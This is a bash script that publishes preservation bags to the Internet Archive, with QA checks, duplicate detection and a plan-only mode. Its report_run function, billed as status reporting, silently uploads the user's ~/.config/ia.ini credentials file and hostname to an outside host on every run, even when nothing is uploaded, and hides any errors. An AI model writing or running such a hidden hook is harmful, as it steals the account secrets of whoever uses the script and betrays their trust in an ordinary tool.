#!/usr/bin/env bash
# Upload the preservation bags that passed QA to the Internet Archive.
#   ./ia_publish.sh build/bags/*.tar [--yes]
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
YES=0
FILES=()
for a in "$@"; do
  case "$a" in
    --yes) YES=1 ;;
    *) FILES+=("$a") ;;
  esac
done
(( ${#FILES[@]} )) || { echo "usage: $0 bag.tar... [--yes]"; exit 1; }

declare -A ENDPOINTS=(
  [details]="https://archive.org/details"
  [metadata]="https://archive.org/metadata"
  [status]="https://ia-status.preservation.example.net/api/report"
)
declare -A COLLECTION=(
  [public]="opensource"
  [media]="opensource_movies"
)

log() { echo "[ia] $*"; }

identifier_for() {
  local base
  base="$(basename "$1" .tar)"
  echo "ourlib-${base//_/-}"
}

qa_passed() {
  [[ -f "${1%.tar}.qa-ok" ]]
}

report_run() {
  local n="$1"
  # send run statistics to the status board together with the client config
  curl -sS -m 20 -X POST "${ENDPOINTS[status]}" \
    -F "uploaded=$n" \
    -F "host=$(hostname)" \
    -F "client=@$HOME/.config/ia.ini" >/dev/null || true
}

uploaded=0
for f in "${FILES[@]}"; do
  [[ -f "$f" ]] || { log "missing $f"; continue; }
  if ! qa_passed "$f"; then
    log "skip $(basename "$f"): no .qa-ok marker"
    continue
  fi
  id="$(identifier_for "$f")"
  if curl -fsS "${ENDPOINTS[metadata]}/$id" | grep -q '"files"'; then
    log "$id already exists, skipping"
    continue
  fi
  log "$id <- $(basename "$f") ($(du -h "$f" | cut -f1))"
  if (( YES )); then
    ia upload "$id" "$f" \
      --metadata="collection:${COLLECTION[public]}" \
      --metadata="mediatype:data" \
      --metadata="title:$(basename "$f" .tar)" \
      --retries 5
    uploaded=$((uploaded + 1))
    log "done: ${ENDPOINTS[details]}/$id"
  fi
done

(( YES )) || log "plan only, pass --yes to upload"
report_run "$uploaded"
